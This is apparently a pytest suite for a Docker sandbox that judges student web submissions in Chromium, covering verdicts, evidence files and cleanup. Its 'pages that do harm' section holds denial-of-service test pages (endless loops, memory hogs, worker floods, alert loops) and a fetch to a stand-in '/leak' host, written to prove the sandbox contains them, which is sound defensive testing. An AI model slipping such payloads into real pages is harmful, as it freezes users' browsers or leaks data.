"""Whole judgings of small submissions, good, poor and hostile, and of our own failures."""

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from sandbox import docker_box
from sandbox.archive import MB
from sandbox.docker_box import client
from sandbox.runner import judge
from sandbox.task import load
from sandbox.verdict import Verdict, proposals
from tests.sandbox.conftest import PACKAGES

# A judging takes a few seconds; on a machine that is busy with other tests, minutes.
pytestmark = [
    pytest.mark.docker,
    pytest.mark.usefixtures("image"),
]

GOOD = PACKAGES / "tiny" / "submissions" / "good" / "site"
BAD = PACKAGES / "tiny" / "submissions" / "bad" / "site"
ROOT = Path(__file__).parents[2]


def outcomes(result):
    return {check.id: check.outcome for check in result.checks}


# --- what is found --------------------------------------------------------------------------------


def test_a_good_submission_with_its_evidence_and_progress(tiny, tmp_path):
    seen = []
    result = judge(tiny, GOOD, tmp_path, on_progress=lambda *step: seen.append(step))
    assert (result.verdict, outcomes(result)) == (
        Verdict.AC,
        {"heading": "passed", "button": "passed"},
    )
    assert result.browser_sandbox, "this host lets Chromium keep its own sandbox"
    assert seen == [(0, 2), (1, 2), (2, 2)]
    assert proposals(result.checks, tiny.maxima) == {"A1.01": 100, "A1.02": 50}
    pieces = [piece for check in result.checks for piece in check.evidence]
    for check in result.checks:
        assert {"screenshot", "film", "console"} <= {piece.kind for piece in check.evidence}
    assert [p.kind for p in pieces].count("contact") == 1, "one picture of all checks"
    films = [piece for piece in pieces if piece.kind == "film"]
    assert {film.media_type for film in films} == {"video/webm"}
    assert all((tmp_path / film.path).stat().st_size < 1_000_000 for film in films)
    for piece in pieces:
        data = (tmp_path / piece.path).read_bytes()
        assert hashlib.sha256(data).hexdigest() == Path(piece.path).stem
    assert {path.name for path in tmp_path.iterdir()} == {piece.path for piece in pieces}
    assert not _ours_running()


def _ours_running():
    """Containers of this very process that are still there."""
    deadline = time.monotonic() + 5
    owned = f" {os.getpid()} "
    while time.monotonic() < deadline:
        with_owner = client().api.containers(all=True, filters={"label": "podium.sandbox"})
        mine = [each for each in with_owner if owned in each["Labels"].get("podium.owner", "")]
        if not mine:
            return []
        time.sleep(0.1)
    return mine


def test_a_poor_one(tiny):
    result = judge(tiny, BAD, None)
    assert result.verdict is Verdict.PARTIAL
    assert outcomes(result) == {"heading": "passed", "button": "failed"}
    failed = next(check for check in result.checks if check.id == "button")
    assert (failed.message_zh, failed.message_en) == (
        "按钮没有反应。",
        "The button does not answer.",
    )
    assert proposals(result.checks, tiny.maxima) == {"A1.01": 100, "A1.02": 0}


def test_a_zip_with_a_chinese_top_folder(tiny, tmp_path):
    path = tmp_path / "上传.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(GOOD / "index.html", "我的作品/index.html")
        archive.writestr("__MACOSX/._index.html", "x")
    assert judge(tiny, path, None).verdict is Verdict.AC


def test_without_an_index_every_check_fails_and_says_so(tiny, site):
    result = judge(tiny, site(style_css="p {}"), None)
    assert result.verdict is Verdict.WA
    assert set(outcomes(result).values()) == {"failed"}
    assert {check.message_en for check in result.checks} == {"There is no index.html."}


def test_the_public_checks_alone(tiny):
    result = judge(tiny, GOOD, None, only="public")
    assert outcomes(result) == {"heading": "passed"}


def test_a_task_without_public_checks(hostile, site):
    result = judge(hostile, site(index_html="<h1>x</h1>"), None, only="public")
    assert (result.verdict, result.checks) == (Verdict.AC, ())


def test_undetermined_stays_undetermined(hostile, site):
    result = judge(hostile, site(index_html="<h1>x</h1>"), None)
    assert outcomes(result) == {"answers": "passed", "hook": "undetermined", "alive": "passed"}
    assert proposals(result.checks, hostile.maxima)["A1.02"] is None


def test_a_large_site(hostile, tmp_path):
    (tmp_path / "index.html").write_text("<h1>x</h1><p data-hook></p>")
    (tmp_path / "film.bin").write_bytes(os.urandom(3 * MB))
    assert judge(hostile, tmp_path, None).verdict is Verdict.AC


# --- pages that do harm ---------------------------------------------------------------------------

WORKERS = """<h1>x</h1><script>
const url = URL.createObjectURL(new Blob(["for (;;);"]));
for (let n = 0; n < 2000; n += 1) new Worker(url);
</script>"""
MEMORY = """<h1>x</h1><script>
const all = []; for (;;) { const piece = new Uint8Array(3e7); piece.fill(7); all.push(piece); }
</script>"""
HARM = {
    "endless loop": "<h1>x</h1><script>for (;;);</script>",
    "memory": MEMORY,
    "threads": WORKERS,
    "dialogs": "<h1>x</h1><script>for (;;) alert(1);</script>",
    "windows": "<h1>x</h1><script>for (let n = 0; n < 100; n += 1) open('?' + n);</script>",
}


@pytest.mark.parametrize("harm", HARM)
def test_a_page_that_does_harm_harms_its_own_checks_only(hostile, site, harm):
    result = judge(hostile, site(index_html=HARM[harm]), None)
    found = outcomes(result)
    assert result.verdict is Verdict.PARTIAL, result.message_en
    assert found["alive"] == "passed", "the check after it went on"
    # A page may open windows as it likes, as long as it goes on itself: they are closed at once.
    assert harm == "windows" or found["answers"] != "passed"
    assert proposals(result.checks, hostile.maxima)["A1.03"] == 100
    assert not _ours_running()


def test_a_memory_hog_loses_its_tab_and_is_told(hostile, site):
    found = {check.id: check for check in judge(hostile, site(index_html=MEMORY), None).checks}
    assert found["answers"].outcome == "failed"
    assert "crash" in found["answers"].message_en


def test_nothing_leaves_from_the_page(hostile, site, tmp_path):
    page = """<h1 data-hook>x</h1><script>
    fetch('http://192.0.2.1/leak').catch(() => {}); new Image().src = 'https://example.com/x.png';
    </script>"""
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    result = judge(hostile, site(index_html=page), evidence)
    answers = next(check for check in result.checks if check.id == "answers")
    log = next(piece for piece in answers.evidence if piece.kind == "network")
    told = (evidence / log.path).read_text("utf-8")
    assert "192.0.2.1" in told and "example.com" in told
    stopped = [line for line in json.loads(told) if "127.0.0.1" not in json.dumps(line)]
    assert stopped and all(line.get("status") in (None, 0) for line in stopped)


ENDLESS = """
import { check } from 'podium-rig';
const title = (en) => ({ zh: en, en });
check({ id: 'short', aspect: 'A1.01', title: title('Short'), points: { add: 100 } }, () => {});
for (const id of ['one', 'two', 'three']) {
  const meta = { id, aspect: 'A1.02', title: title(id), points: { add: 50 } };
  check(meta, () => new Promise(() => {}));
}
"""


def test_the_outer_time_limit_leaves_the_rest_to_a_person(tmp_path):
    task = broken(tmp_path, ENDLESS)
    hurried = replace(task, limits=replace(task.limits, wall_seconds=25, check_seconds=600))
    result = judge(hurried, GOOD, None)
    assert result.verdict is Verdict.ILE
    assert outcomes(result) == {
        "short": "passed",
        "one": "undetermined",
        "two": "undetermined",
        "three": "undetermined",
    }
    assert proposals(result.checks, task.maxima) == {"A1.01": 100, "A1.02": None}


# --- our own failures -----------------------------------------------------------------------------


def broken(tmp_path, source):
    folder = tmp_path / "package"
    shutil.copytree(PACKAGES / "tiny", folder)
    (folder / "checks" / "page.spec.mjs").write_text(source)
    return load(folder)


ONCE = """
import { check, claim } from 'podium-rig';
const title = { zh: '标题', en: 'Heading' };
for (const [id, from] of [['once', 1], ['always', 9]]) {
  let seen = 0;
  check({ id, aspect: 'A1.01', title, points: { add: 100 } }, async ({ rig }) => {
    await rig.open();
    seen += 1;
    claim(seen > from, { zh: `第 ${seen} 次`, en: `attempt ${seen}` });
  });
}
"""


def test_a_fault_counts_only_when_it_is_seen_again(tmp_path):
    result = judge(broken(tmp_path, ONCE), GOOD, None)
    assert outcomes(result) == {"once": "undetermined", "always": "failed"}
    said = {check.id: check.message_en for check in result.checks}
    assert said["once"].endswith("attempt 1") and "judge by eye" in said["once"]
    assert said["always"] == "attempt 2"


NO_BROWSER = """
import { check } from 'podium-rig';
const title = { zh: '标题', en: 'Heading' };
check({ id: 'heading', aspect: 'A1.01', title, points: { add: 100 } },
  async ({ page, rig }) => {
    await rig.open();
    await page.context().browser().close();
    await rig.run(100);
  });
"""


def test_a_browser_that_ends_is_our_fault_and_not_the_games(tmp_path):
    result = judge(broken(tmp_path, NO_BROWSER), GOOD, None)
    assert result.verdict is Verdict.JE, "retried, never a zero"
    assert outcomes(result) == {"heading": "error"}
    assert "browser" in result.checks[0].message_en


@pytest.mark.parametrize(
    "source",
    [
        "this is no program",
        "throw new Error('broken')",
        "process.kill(process.ppid, 'SIGKILL')",
        "process.exit(0)",
        "import 'nothing-of-the-kind'",
        "",
    ],
)
def test_broken_checks_are_our_fault(tmp_path, source):
    result = judge(broken(tmp_path, source), GOOD, None)
    assert (result.verdict, result.checks) == (Verdict.IE, ())
    assert result.message_zh and result.message_en
    assert not _ours_running()


def test_a_container_killed_in_the_middle_is_our_fault(hostile, site):
    page = site(index_html=HARM["endless loop"])

    def kill():
        time.sleep(3)
        connection = client()
        for each in connection.api.containers(filters={"label": "podium.sandbox"}):
            if f" {os.getpid()} " in each["Labels"]["podium.owner"]:
                connection.api.kill(each["Id"])

    killer = threading.Thread(target=kill)
    killer.start()
    result = judge(hostile, page, None)
    killer.join()
    assert result.verdict is Verdict.IE
    assert not _ours_running()


def test_no_docker_is_our_fault(tiny, monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nowhere/docker.sock")
    result = judge(tiny, GOOD, None)
    assert result.verdict is Verdict.IE
    assert "Docker" in result.message_en


def test_an_image_that_is_gone_is_our_fault(tiny):
    assert judge(tiny, GOOD, None, image="sha256:" + "0" * 64).verdict is Verdict.IE


def test_a_worker_killed_in_the_middle_leaves_nothing(site):
    page = site(index_html=HARM["endless loop"])
    worker = subprocess.Popen(
        [sys.executable, "-m", "sandbox", PACKAGES / "hostile", page],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    worker.stderr.readline()  # "0/3": the checks have begun
    owned = f" {worker.pid} "

    def mine():
        found = client().api.containers(all=True, filters={"label": "podium.sandbox"})
        return [each for each in found if owned in each["Labels"].get("podium.owner", "")]

    assert len(mine()) == 1
    worker.send_signal(signal.SIGKILL)
    worker.wait()
    deadline = time.monotonic() + 5
    while mine() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert mine() == []


def test_a_host_without_user_namespaces_is_judged_on_and_told(tiny, tmp_path, monkeypatch):
    """Chromium's own sandbox cannot stand there; the other walls do, and the result says so."""
    profile = json.loads(docker_box.SECCOMP.read_text())
    kept = [r for r in profile["syscalls"] if not {"unshare", "clone"} & set(r["names"])]
    threads = {
        "names": ["clone"],
        "action": "SCMP_ACT_ALLOW",
        "args": [{"index": 0, "value": 0x7E020000, "valueTwo": 0, "op": "SCMP_CMP_MASKED_EQ"}],
    }
    (tmp_path / "strict.json").write_text(json.dumps(profile | {"syscalls": [*kept, threads]}))
    monkeypatch.setattr(docker_box, "SECCOMP", tmp_path / "strict.json")
    result = judge(tiny, GOOD, None)
    assert result.verdict is Verdict.AC, result.message_en
    assert result.browser_sandbox is False
